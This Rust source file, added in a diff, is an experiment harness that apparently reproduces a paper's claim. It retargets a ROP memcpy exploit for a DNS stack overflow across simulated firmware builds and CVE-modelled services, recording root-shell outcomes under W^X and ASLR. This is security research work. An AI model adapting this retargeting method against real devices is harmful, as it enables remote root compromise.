@@ -1,0 +1,155 @@
+//! E7 — adapting the exploit to other builds (paper §V, extension).
+//!
+//! §V claims the code works "out-of-the-box (with minimal modification)"
+//! against other DNS-based overflows, because the only build-specific
+//! inputs are addresses that reconnaissance re-discovers. We test the
+//! claim's mechanism: attack several *different builds* of the firmware
+//! (shuffled code layout → different gadget addresses and offsets) with
+//! the unchanged strategy code, re-running only reconnaissance.
+
+use cml_exploit::{ExploitStrategy, RopMemcpyChain, TargetInfo};
+use cml_exploit::target::deliver_labels;
+use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
+
+use crate::report::Table;
+
+/// Runs the experiment.
+pub fn run() -> Table {
+    let mut t = Table::new(
+        "E7",
+        "adaptation across builds (paper §V): recon-only retargeting",
+        &["arch", "build variant", "pop-gadget addr", "ret offset", "outcome"],
+    );
+    for arch in Arch::ALL {
+        let mut gadget_addrs = Vec::new();
+        for variant in [0u64, 1, 2, 3] {
+            let fw = Firmware::build_variant(FirmwareKind::OpenElec, arch, variant);
+            let fw2 = fw.clone();
+            let info = match TargetInfo::gather(fw.image(), move || {
+                fw2.boot(Protections::full(), 0xA11C)
+            }) {
+                Ok(i) => i,
+                Err(e) => {
+                    t.row([
+                        arch.to_string(),
+                        variant.to_string(),
+                        "-".into(),
+                        "-".into(),
+                        format!("recon error: {e}"),
+                    ]);
+                    continue;
+                }
+            };
+            let gadget = match arch {
+                Arch::X86 => info.gadgets.x86_pop_chain(4).map(|g| g.addr),
+                Arch::Armv7 => {
+                    info.gadgets.arm_pop_including(&[0, 1, 2, 3, 5, 6, 7]).map(|g| g.addr)
+                }
+            };
+            gadget_addrs.push(gadget);
+            let outcome = match RopMemcpyChain::new(arch)
+                .build(&info)
+                .map_err(|e| e.to_string())
+                .and_then(|p| p.to_labels().map_err(|e| e.to_string()))
+            {
+                Ok(labels) => {
+                    let mut victim = fw.boot(Protections::full(), 0xD00D + variant);
+                    match deliver_labels(&mut victim, labels) {
+                        Some(o) if o.is_root_shell() => "root shell".to_string(),
+                        Some(o) => o.to_string(),
+                        None => "no query".to_string(),
+                    }
+                }
+                Err(e) => format!("build error: {e}"),
+            };
+            t.row([
+                arch.to_string(),
+                variant.to_string(),
+                gadget.map_or("-".into(), |a| format!("{a:#010x}")),
+                info.frame.ret_offset.to_string(),
+                outcome,
+            ]);
+        }
+        let distinct: std::collections::HashSet<_> = gadget_addrs.iter().flatten().collect();
+        t.note(format!(
+            "{arch}: {} distinct pop-gadget addresses across 4 builds — the \
+             strategy code never changed, only reconnaissance re-ran.",
+            distinct.len()
+        ));
+    }
+    // Part two: retarget other *services* (the paper's §V CVE list,
+    // modelled as different stack-buffer sizes) — again with zero
+    // strategy changes.
+    for arch in Arch::ALL {
+        for service in [
+            cml_firmware::ServiceProfile::DNSMASQ_LIKE,
+            cml_firmware::ServiceProfile::RESOLVED_LIKE,
+            cml_firmware::ServiceProfile::ASTERISK_LIKE,
+        ] {
+            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
+            let fw2 = fw.clone();
+            let outcome = TargetInfo::gather(fw.image(), move || {
+                fw2.boot_service(Protections::full(), 0xA11C, service)
+            })
+            .map_err(|e| e.to_string())
+            .and_then(|info| {
+                let labels = RopMemcpyChain::new(arch)
+                    .build(&info)
+                    .map_err(|e| e.to_string())?
+                    .to_labels()
+                    .map_err(|e| e.to_string())?;
+                let mut victim = fw.boot_service(Protections::full(), 0xD00D, service);
+                match deliver_labels(&mut victim, labels) {
+                    Some(o) if o.is_root_shell() => {
+                        Ok((info.frame.ret_offset, "root shell".to_string()))
+                    }
+                    Some(o) => Ok((info.frame.ret_offset, o.to_string())),
+                    None => Err("no query".to_string()),
+                }
+            });
+            match outcome {
+                Ok((ret_offset, verdict)) => t.row([
+                    arch.to_string(),
+                    service.name.to_string(),
+                    format!("({})", service.cve),
+                    ret_offset.to_string(),
+                    verdict.to_string(),
+                ]),
+                Err(e) => t.row([
+                    arch.to_string(),
+                    service.name.to_string(),
+                    format!("({})", service.cve),
+                    "-".into(),
+                    format!("error: {e}"),
+                ]),
+            }
+        }
+    }
+    t.note(
+        "Part two retargets the same unchanged ROP strategy at services \
+         with 296-, 2048- and 128-byte buffers (stand-ins for the paper's \
+         §V CVE list): reconnaissance re-learns each frame and every one \
+         falls under W^X+ASLR.",
+    );
+    t
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn unchanged_strategy_works_across_builds_and_services() {
+        let t = run();
+        assert_eq!(t.rows.len(), 8 + 6);
+        for row in &t.rows {
+            assert_eq!(row[4], "root shell", "{row:?}");
+        }
+        // Builds genuinely differ: at least one note reports >1 address.
+        assert!(
+            t.notes.iter().any(|n| !n.contains("1 distinct")),
+            "{:?}",
+            t.notes
+        );
+    }
+}
